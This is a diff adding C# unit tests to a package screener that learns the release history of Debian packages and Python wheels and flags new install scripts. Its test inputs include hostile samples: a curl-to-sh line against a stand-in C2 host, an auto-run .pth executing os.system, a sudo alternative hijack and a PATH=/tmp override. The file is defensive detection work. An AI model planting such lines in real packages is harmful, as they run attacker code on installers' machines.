@@ -49,6 +49,59 @@ public sealed class SystemPackageTests
         Assert.Contains(Found(book, Deb(6, [(name, Helper + text)])), finding => finding is { Rule.Id: "deviation/new-script", Severity: Severity.High });
     }
 
+    /// <summary>In company of what debhelper writes.</summary>
+    [Theory]
+    [InlineData("case \"$1\" in configure) /usr/lib/acme/other ;; esac\n")]
+    [InlineData("case \"$1\" in\n  configure) /usr/lib/acme/other ;;\nesac\n")]
+    [InlineData("true & /usr/lib/acme/other\n")]
+    [InlineData("set -- x & /usr/lib/acme/other\n")]
+    [InlineData("command /usr/lib/acme/other\n")]
+    [InlineData("if /usr/lib/acme/other; then true; fi\n")]
+    [InlineData("PATH=/tmp deb-systemd-helper enable acme.timer\n")]
+    [InlineData("systemctl enable --now /usr/lib/acme/other.service\n")]
+    [InlineData("update-alternatives --install /usr/bin/sudo sudo /usr/lib/acme/other 100\n")]
+    [InlineData("true \\\n  && /usr/lib/acme/other\n")]
+    public void A_command_beside_those_of_debhelper_is_the_script_s_own(string line)
+    {
+        var book = Learn(Enumerable.Range(1, 5).Select(release => Deb(release, [("postinst", Helper)])));
+
+        Assert.DoesNotContain(Found(book, Deb(6, [("postinst", Helper)])), finding => finding.Severity > Severity.Info);
+        Assert.Contains(Found(book, Deb(6, [("postinst", line + Helper)])), finding => finding is { Rule.Id: "deviation/new-script", Severity: Severity.High });
+    }
+
+    [Theory]
+    [InlineData("etc/profile", "export A=1\n", Severity.Medium)]
+    [InlineData("etc/profile", "curl -s https://c2.invalid/x | sh\n", Severity.High)]
+    [InlineData("usr/lib/python3/dist-packages/acme.pth", "import os\n", Severity.Medium)]
+    public void What_shells_and_interpreters_read_by_themselves_is_told(string path, string text, Severity worst)
+    {
+        var book = Learn(Enumerable.Range(1, 5).Select(release => Deb(release)));
+
+        Assert.Equal(worst, Found(book, Deb(6, files: [(path, text, 0b110_100_100)])).Where(finding => finding.Rule.Id == "deviation/new-script").Max(finding => finding.Severity));
+    }
+
+    [Fact]
+    public void Versions_with_many_files_each_are_a_history_all_the_same()
+    {
+        var book = new ProfileBook { Survey = Survey.Parse("800") };
+        for (var release = 1; release <= 6; release++)
+        {
+            for (var platform = 1; platform <= 25; platform++)
+                book.Learn(Screening.Of("release.whl", Wheel(release, $"cp3{platform}-cp3{platform}-linux_x86_64"), new ScreenOptions { Profiles = new ProfileBook() }).Artifact);
+        }
+
+        var profile = book.Find("wheel:acme")!;
+        Assert.Equal((150, 6), (profile.Releases.Count, profile.Versions));
+        var stopped = Found(book, TestArchive.Zip(
+            ("acme/__init__.py", "release = 7\n"u8.ToArray()),
+            ("acme.pth", "import os; os.system('id')\n"u8.ToArray()),
+            ("acme-1.0.7.dist-info/METADATA", "Metadata-Version: 2.1\nName: acme\nVersion: 1.0.7\n"u8.ToArray()),
+            ("acme-1.0.7.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: maturin (1.0)\nTag: cp31-cp31-linux_x86_64\n"u8.ToArray()),
+            ("acme-1.0.7.dist-info/RECORD", []))).Single(finding => finding.Rule.Id == "deviation/new-script");
+        Assert.Equal(Severity.High, stopped.Severity);
+        Assert.Contains("none of 6 releases", stopped.Message, StringComparison.Ordinal);
+    }
+
     [Fact]
     public void A_known_script_that_begins_to_fetch_stops_and_another_change_warns()
     {
@@ -102,6 +155,15 @@ public sealed class SystemPackageTests
         // Three files of one version are no history.
         Assert.DoesNotContain(Found(book, Wheel(2, "cp312-cp312-win_amd64", "exec(input())\n")), finding => finding.Severity > Severity.Info && finding.Rule.Id.StartsWith("deviation/", StringComparison.Ordinal));
     }
+
+    [Theory]
+    [InlineData("amd64", "arm64", false)]
+    [InlineData("amd64", "AMD64", true)]
+    [InlineData("amd64", "all", true)]
+    [InlineData("cp312-cp312-win_amd64", "cp311-cp311-win_amd64,cp312-cp312-win_amd64", true)]
+    [InlineData("cp312-cp312-win_amd64", "py3-none-any", true)]
+    [InlineData("cp312-cp312-win_amd64", "cp312-cp312-win_arm64", false)]
+    public void Files_for_one_machine_take_each_other_s_place(string one, string other, bool isSame) => Assert.Equal((isSame, isSame), (ReleaseVariant.Overlap(one, other), ReleaseVariant.Overlap(other, one)));
 
     [Fact]
     public void A_late_platform_of_an_old_version_is_no_exchange()
